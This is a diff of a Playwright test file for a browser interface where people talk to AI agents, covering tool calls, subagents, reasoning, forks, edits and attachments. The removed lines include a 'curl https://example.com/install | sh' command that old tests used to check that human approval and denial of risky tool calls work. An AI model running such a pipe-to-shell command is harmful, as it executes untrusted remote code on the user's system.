@@ -1,24 +1,40 @@
-"""People talk to agents in a browser: tools, questions, steering, stopping, forks, and what a reload must not lose."""
+"""People talk to agents in a browser: tools, subagents, reasoning, steering, stopping, forks, files, threads."""
 
 from __future__ import annotations
 
+import json
 import re
+from typing import Any
 
+import pytest
 from playwright.sync_api import Browser, Page, expect
 
 from browsing import Asking, asking, finished, say, show, sign_in, talk, thread_of, until, visit
 from serving import TOKENS, Served
 
-BOLD = "Run the command: curl https://example.com/install | sh"  # what the ready rules ask about
-
 DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
-PASTE = """(encoded) => {
+BRING = """([encoded, way]) => {
   const bytes = Uint8Array.from(atob(encoded), (letter) => letter.charCodeAt(0))
   const data = new DataTransfer()
   data.items.add(new File([bytes], 'dot.png', {type: 'image/png'}))
-  const paste = new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true})
-  document.getElementById('message').dispatchEvent(paste)
+  data.items.add(new File(['a note'], 'note.txt', {type: 'text/plain'}))
+  const how = {bubbles: true, cancelable: true}
+  if (way === 'paste') {
+    document.getElementById('message').dispatchEvent(new ClipboardEvent('paste', {clipboardData: data, ...how}))
+    return
+  }
+  const place = document.querySelector('.chat')
+  for (const kind of ['dragover', 'drop']) place.dispatchEvent(new DragEvent(kind, {dataTransfer: data, ...how}))
 }"""
+
+
+def calls(*wanted: tuple[str, dict[str, Any]]) -> str:
+    """What the agent `caller` is told to call, all at once."""
+    return json.dumps([{"name": name, "args": args} for name, args in wanted])
+
+
+def said(api: Asking, thread: str) -> list[str]:
+    return [message["content"] for message in api.thread(thread)["messages"] if message["role"] == "user"]
 
 
 def replies(page: Page) -> str:
@@ -58,7 +74,7 @@ def test_two_users_see_only_their_own(browser: Browser, server: Served) -> None:
     assert "birds.txt" in str(asking(server, "ada")("GET", "/agents/default/files/list"))
 
 
-# -- tools and questions ----------------------------------------------------------------------------------------------
+# -- what is done ----------------------------------------------------------------------------------------------
 
 
 def test_tools_are_cards_with_what_went_in_and_came_out(ada: Page, api: Asking) -> None:
@@ -83,65 +99,84 @@ def test_why_says_what_each_hook_said(ada: Page) -> None:
     expect(rows.get_by_role("row", name=re.compile("permissions.check guard pass"))).to_have_count(1)
 
 
-def test_a_question_is_denied_with_words(ada: Page, api: Asking) -> None:
-    say(ada, BOLD)
-    box = ada.get_by_role("alertdialog", name="The agent asks")
-    expect(box).to_contain_text("curl https://example.com/install | sh")
-    expect(box.get_by_label("What the command does")).to_contain_text("sh")
-    box.get_by_placeholder("Why not").fill("we do not run strangers")
-    box.get_by_role("button", name="Deny").click()
-    finished(ada)
-    expect(box).to_have_count(0)
-    assert "we do not run strangers" in str(api.thread(thread_of(ada))["messages"])
+def test_calls_that_are_made_together_stand_side_by_side(browser: Browser, server: Served) -> None:
+    with visit(browser, server, agent="caller") as page:
+        say(page, calls(("wait", {"name": "left"}), ("wait", {"name": "right"}), ("no_such_tool", {})))
+        both = page.get_by_role("group", name="3 tools at once")
+        expect(both.get_by_role("group", name="wait: working")).to_have_count(2)
+        first, second = both.get_by_role("group", name="wait: working").all()
+        assert abs(first.bounding_box()["y"] - second.bounding_box()["y"]) < 2  # type: ignore[index]
+        expect(both.get_by_role("group", name="no_such_tool: failed")).to_be_visible()
+        (server.folder / "left").touch()
+        expect(both.get_by_role("group", name="wait: done")).to_have_count(1)
+        expect(both.get_by_role("group", name="wait: working")).to_have_count(1)
+        (server.folder / "right").touch()
+        finished(page)
 
 
-def test_a_question_is_allowed_with_other_arguments(ada: Page, api: Asking) -> None:
-    say(ada, BOLD)
-    box = ada.get_by_role("alertdialog", name="The agent asks")
-    box.get_by_role("button", name="Edit").click()
-    box.get_by_label("Arguments, as JSON").fill('{"command": "echo something-milder"}')
-    box.get_by_role("button", name="Allow this instead").click()
-    finished(ada)
-    results = [m["content"] for m in api.thread(thread_of(ada))["messages"] if m["role"] == "tool"]
-    assert any("something-milder" in str(result) for result in results)
+def test_a_subagent_works_inside_the_call_it_works_for(browser: Browser, server: Served, api: Asking) -> None:
+    with visit(browser, server, agent="caller") as page:
+        inner = calls(("wait", {"name": "helped"}))
+        say(page, calls(("task", {"agent": "helper", "prompt": inner})))
+        child = page.get_by_role("group", name="Subagent helper")
+        expect(child.get_by_role("group", name="wait: working")).to_be_visible()
+        (server.folder / "helped").touch()
+        finished(page)
+        (kept,) = [call for m in api.thread(thread_of(page))["messages"] for call in m["tool_calls"]]
+        assert api.thread(kept["child"])["messages"], "its work is a thread of its own"
+        page.reload()
+        page.get_by_role("group", name="task: done").get_by_role("button").first.click()
+        child.get_by_role("button", name="Show what it did").click()
+        expect(child.get_by_role("group", name="wait: done")).to_be_visible()
 
 
-def test_a_question_of_another_thread_is_answered_in_the_inbox(ada: Page, api: Asking) -> None:
-    thread = api.begin("default", BOLD)  # by the API, and seen here
-    inbox = show(ada, "Approvals")
-    row = inbox.get_by_role("listitem").filter(has_text="example.com/install")
-    expect(row).to_have_count(1)
-    assert [one["thread_id"] for one in api("GET", "/approvals")["approvals"]] == [thread]
-    row.get_by_role("button", name="Deny").click()
-    expect(inbox.get_by_text("Nobody waits for you")).to_be_visible()
-    assert api("GET", "/approvals")["approvals"] == []
+def test_tasks_in_the_background_say_how_they_are(browser: Browser, server: Served) -> None:
+    with visit(browser, server, agent="caller") as page:
+        inner = calls(("wait", {"name": "later"}))
+        say(page, calls(("start_task", {"agent": "helper", "prompt": inner})))
+        tasks = page.locator(".tasks")
+        expect(tasks).to_contain_text("1 of 1 at work")
+        (server.folder / "later").touch()
+        expect(tasks).to_contain_text("1 ended")
+        finished(page)
+        page.reload()
+        expect(page.locator(".tasks")).to_contain_text("1 ended")
 
 
-def test_a_question_that_the_api_answers_goes_away(ada: Page, api: Asking) -> None:
-    say(ada, BOLD)
-    box = ada.get_by_role("alertdialog", name="The agent asks")
-    box.wait_for()
-    (asked,) = api("GET", "/approvals", thread_id=thread_of(ada))["approvals"]
-    api("POST", f"/approvals/{asked['id']}", {"choice": "deny", "words": "no", "thread_id": asked["thread_id"]})
-    expect(box).to_have_count(0)
+def test_todos_are_a_checklist(browser: Browser, server: Served, api: Asking) -> None:
+    todos = [{"id": "1", "title": "Sow", "status": "done"}, {"id": "2", "title": "Reap", "status": "in_progress"}]
+    with visit(browser, server, agent="caller") as page:
+        say(page, calls(("write_todos", {"todos": todos}), ("wait", {"name": "grown"})))
+        listed = page.locator(".todos")
+        expect(listed).to_contain_text("1 of 2 done: Reap")
+        expect(listed.get_by_role("listitem").filter(has_text="Sow").get_by_role("img")).to_have_accessible_name("done")
+        (server.folder / "grown").touch()
+        finished(page)
+        assert [(one["title"], one["status"]) for one in api.thread(thread_of(page))["todos"]] == [
+            ("Sow", "done"),
+            ("Reap", "in_progress"),
+        ]
 
 
-def test_what_the_agent_wants_to_know_is_asked(ada: Page) -> None:
-    say(ada, "Ask me which colour I like: red or blue")
-    box = ada.get_by_role("alertdialog", name="The agent asks")
-    box.wait_for()
-    for choice in (
-        box.get_by_role("radio").first,
-        box.get_by_placeholder("Your answer"),
-        box.get_by_role("button", name="Yes"),
-    ):
-        if choice.count():
-            choice.fill("blue") if choice.evaluate("e => e.placeholder === 'Your answer'") else choice.click()
-            break
-    if box.get_by_role("button", name="Answer").count():
-        box.get_by_role("button", name="Answer", exact=True).click()
-    finished(ada)
-    expect(box).to_have_count(0)
+def test_reasoning_is_folded_away(browser: Browser, server: Served, api: Asking) -> None:
+    with visit(browser, server, agent="thinking") as page:
+        say(page, "weighed")
+        expect(page.get_by_text("Thinking…")).to_be_visible()
+        (server.folder / "weighed").touch()
+        finished(page)
+        folded = page.locator("details.reasoning")
+        expect(folded.get_by_text("weigh", exact=True)).to_be_hidden()
+        folded.get_by_text("Reasoning").click()
+        expect(folded.locator("strong")).to_have_text("weigh")
+        expect(folded).to_contain_text("It is heavy.")
+        (reply,) = [m for m in api.thread(thread_of(page))["messages"] if m["role"] == "assistant"]
+        assert (reply["content"], reply["reasoning"][0]["text"]) == (
+            "It weighs a lot.",
+            "Let me **weigh** this. It is heavy.",
+        )
+        page.reload()
+        page.locator("details.reasoning").get_by_text("Reasoning").click()
+        expect(page.locator("details.reasoning strong")).to_be_visible()
 
 
 # -- while it runs ----------------------------------------------------------------------------------------------------
@@ -170,61 +205,72 @@ def test_a_run_is_stopped(browser: Browser, server: Served, api: Asking) -> None
         assert api.thread(thread_of(page))["ends"][0]["outcome"] == "cancelled"
 
 
-def test_a_reload_in_the_middle_loses_nothing_and_doubles_nothing(browser: Browser, server: Served) -> None:
+def test_what_is_said_at_once_is_said_in_its_order(browser: Browser, server: Served, api: Asking) -> None:
     with visit(browser, server, agent="slow") as page:
-        say(page, "40 0.1")
-        expect(page.locator("article.reply")).to_contain_text("piece5")
-        page.reload()
-        expect(page.locator("article.reply")).to_contain_text("piece39")
+        for words in ("10 0.05", "2 0.01", "3 0.01"):  # before there is a thread
+            say(page, words)
         finished(page)
-        assert replies(page).split("piece39")[0].count("piece") == 39
-        assert page.locator("article.said").count() == page.locator("article.reply").count() == 1
-
-
-def test_a_connection_that_breaks_is_made_again(browser: Browser, server: Served) -> None:
-    with visit(browser, server, user="") as page:  # what a browser says about lost connections is no mistake of ours
-        errors: list[str] = []
-        page.on("pageerror", lambda error: errors.append(str(error)))
-        sign_in(page, "ada")
-        page.select_option("#agent", "slow")
-        say(page, "40 0.1")
-        expect(page.locator("article.reply")).to_contain_text("piece3")
-        thread = thread_of(page)
-        page.evaluate("window.stop()")  # every request of the page is cut off
-        expect(page.locator("article.reply")).to_contain_text("piece39")
-        finished(page)
-        words = [f"piece{number}" for number in range(40)]
-        assert re.findall(r"piece\d+", replies(page)) == words
-        assert thread_of(page) == thread and errors == []
+        expect(page.locator("article.said")).to_have_count(3)
+        (thread,) = [one["id"] for one in api("GET", "/threads")["threads"] if one["title"].startswith("10 0.05")]
+        assert said(api, thread) == ["10 0.05", "2 0.01", "3 0.01"] and thread == thread_of(page)
 
 
 # -- what was said ----------------------------------------------------------------------------------------------------
 
 
-def test_a_thread_is_forked_from_a_message(ada: Page, api: Asking) -> None:
-    talk(ada, "Write one to fork.txt")
-    talk(ada, "Write two to fork.txt")
-    before = thread_of(ada)
-    first = ada.locator("article.reply").first
-    first.hover()
-    first.get_by_role("button", name="Fork", exact=True).click()
-    ada.wait_for_url(lambda url: before not in url)
-    fork = api("GET", "/threads")["threads"][0]
-    assert fork["id"] == thread_of(ada) != before
-    expect(ada.locator("article.said")).to_have_count(1)
-    assert len([m for m in api.thread(before)["messages"] if m["role"] == "user"]) == 2
+def act(page: Page, article: Any, name: str, **how: Any) -> None:
+    article.hover()
+    article.get_by_role("button", name=name, exact=True).click(**how)
 
 
-def test_a_message_is_edited_and_what_came_after_is_taken_back(browser: Browser, server: Served) -> None:
+@pytest.mark.parametrize("kind", ["said", "reply"])
+def test_a_thread_is_forked_from_any_message(browser: Browser, server: Served, api: Asking, kind: str) -> None:
     with visit(browser, server, agent="echo") as page:
-        talk(page, "the first words")
-        said = page.locator("article.said").first
-        said.hover()
-        said.get_by_role("button", name="Edit").click()
-        page.get_by_label("Your message").fill("better words")
-        page.get_by_role("button", name="Say this instead").click()
-        expect(page.locator("article.reply")).to_have_text(re.compile("better words"))
-        assert "the first words" not in page.locator(".items").inner_text()
+        for words in ("one", "two", "three"):
+            talk(page, words)
+        before, count = thread_of(page), len(api("GET", "/threads")["threads"])
+        act(page, page.locator(f"article.{kind}").nth(1), "Fork", click_count=2)
+        page.wait_for_url(lambda url: before not in url)
+        expect(page.locator("article.said")).to_have_count(2)
+        expect(page.locator("article.reply")).to_have_count(1 if kind == "said" else 2)
+        fork = api.thread(thread_of(page))
+        seqs = [message["seq"] for message in fork["messages"]]
+        assert (fork["meta"]["forked_from"], fork["meta"]["forked_at"]) == (before, seqs[-1])
+        assert said(api, before) == ["one", "two", "three"], "where it came from stays as it was"
+        assert len(api("GET", "/threads")["threads"]) == count + 1, "two clicks make one"
+
+
+def test_any_message_is_edited_or_said_again(browser: Browser, server: Served, api: Asking) -> None:
+    with visit(browser, server, agent="echo") as page:
+        for words in ("one", "two", "three"):
+            talk(page, words)
+        act(page, page.locator("article.said").nth(1), "Edit")
+        page.get_by_label("Your message").fill("better\nwords")
+        page.reload()  # what was written is not lost
+        expect(page.get_by_label("Your message")).to_have_value("better\nwords")
+        page.get_by_role("button", name="Say this instead").dblclick()
+        expect(page.locator("article.reply")).to_have_text([re.compile("one"), re.compile("better")])
+        finished(page)
+        assert said(api, thread_of(page)) == ["one", "better\nwords"]
+        lines = page.locator("article.said").nth(1).locator("p").inner_text()
+        assert lines == "better\nwords", "lines are shown as they were written"
+        act(page, page.locator("article.reply").first, "Retry", click_count=2)
+        expect(page.locator("article.said")).to_have_count(1)
+        finished(page)
+        assert said(api, thread_of(page)) == ["one"]
+        expect(page.locator("article.reply")).to_have_count(1)
+
+
+def test_a_thread_keeps_its_agent(browser: Browser, server: Served, api: Asking) -> None:
+    with visit(browser, server, agent="echo") as page:
+        talk(page, "to the echo")
+        page.select_option("#agent", "slow")
+        talk(page, "2 0.01")
+        page.go_back()
+        page.go_back()
+        expect(page.locator("#agent")).to_have_value("echo")
+        talk(page, "to the echo again")
+        assert said(api, thread_of(page)) == ["to the echo", "to the echo again"]
 
 
 def test_threads_are_renamed_searched_exported_and_deleted(ada: Page, api: Asking) -> None:
@@ -233,7 +279,7 @@ def test_threads_are_renamed_searched_exported_and_deleted(ada: Page, api: Askin
     row = ada.locator(".thread-row").filter(has=ada.locator("[aria-current]"))
     row.hover()
     row.get_by_role("button", name=re.compile("^Rename")).click()
-    ada.get_by_label("Title").fill("About rodents")
+    ada.get_by_label("Title", exact=True).fill("About rodents")
     ada.keyboard.press("Enter")
     until(lambda: api.thread(thread)["title"] == "About rodents")
     api("PATCH", f"/threads/{thread}", {"title": "About large rodents"})  # and the other way round
@@ -243,6 +289,11 @@ def test_threads_are_renamed_searched_exported_and_deleted(ada: Page, api: Askin
     with ada.expect_download() as download:
         ada.get_by_text("Markdown, to read").click()
     assert "capybara" in download.value.path().read_text()
+    row.hover()
+    row.get_by_role("button", name=re.compile("^Export")).click()
+    with ada.expect_download() as download:
+        ada.get_by_text("JSON, its whole log").click()
+    assert json.loads(download.value.path().read_text()) == api("GET", f"/threads/{thread}/export")
     ada.get_by_placeholder("Search").fill("capybara")
     expect(ada.get_by_role("list", name="Found").get_by_role("button")).not_to_have_count(0)
     ada.get_by_placeholder("Search").fill("")
@@ -253,36 +304,33 @@ def test_threads_are_renamed_searched_exported_and_deleted(ada: Page, api: Askin
     expect(ada.get_by_role("button", name="About large rodents")).to_have_count(0)
 
 
-def test_a_list_of_todos_is_a_checklist(ada: Page) -> None:
-    talk(ada, "Plan a garden party")
-    todos = ada.locator(".todos")
-    if not todos.count():  # the agent has no todos of its own: the hook brings them
-        asked = show(ada, "Agent")
-        asked.get_by_role("tab", name="Hooks").click()
-        asked.get_by_role("switch", name="Hook todos").click()
-        ada.get_by_role("button", name="New thread").click()
-        talk(ada, "Plan a garden party")
-    expect(todos).to_contain_text("done")
-
-
-def test_a_picture_is_attached_by_pasting(browser: Browser, server: Served, api: Asking) -> None:
+@pytest.mark.parametrize("way", ["paste", "drop"])
+def test_files_come_along_by_paste_and_by_drop(browser: Browser, server: Served, api: Asking, way: str) -> None:
     with visit(browser, server, agent="echo") as page:
         page.locator("#message").fill("look at this")
-        page.evaluate(PASTE, DOT)
-        expect(page.get_by_role("list", name="Attached").locator("img")).to_have_count(1)
+        page.evaluate(BRING, [DOT, way])
+        waiting = page.get_by_role("list", name="Attached")
+        expect(waiting.locator("img")).to_have_count(1)
+        expect(waiting.get_by_role("listitem")).to_have_count(2)
         page.get_by_role("button", name="Send").click()
         finished(page)
-        sent = page.locator("article.said").get_by_role("list", name="Attached").locator("img, .chip")
-        expect(sent).to_have_count(1)
-        assert "image/png" in str(api.thread(thread_of(page))["messages"])
+        sent = page.locator("article.said").get_by_role("list", name="Attached")
+        expect(sent.locator("img")).to_have_count(1)
+        expect(sent).to_contain_text("note.txt")
+        (message,) = [m for m in api.thread(thread_of(page))["messages"] if m["role"] == "user"]
+        assert [part["type"] for part in message["content"]] == ["text", "image", "file"]
+        assert message["content"][2]["name"] == "note.txt" and message["content"][1]["data"] == DOT
 
 
-def test_a_slash_offers_skills(ada: Page) -> None:
+def test_a_slash_is_for_skills(ada: Page, api: Asking) -> None:
     ada.locator("#message").press_sequentially("/sli")
     offered = ada.get_by_role("listbox", name="Skills")
     expect(offered).to_contain_text("/slides")
     ada.keyboard.press("Enter")
     expect(ada.locator("#message")).to_have_value("/slides ")
+    talk(ada, "/slides a deck about tea")  # pasted and sent at once
+    talk(ada, "/nothing of the kind")
+    assert said(api, thread_of(ada)) == ["Use the skill slides: a deck about tea", "/nothing of the kind"]
 
 
 def test_the_token_is_in_no_storage(ada: Page) -> None:
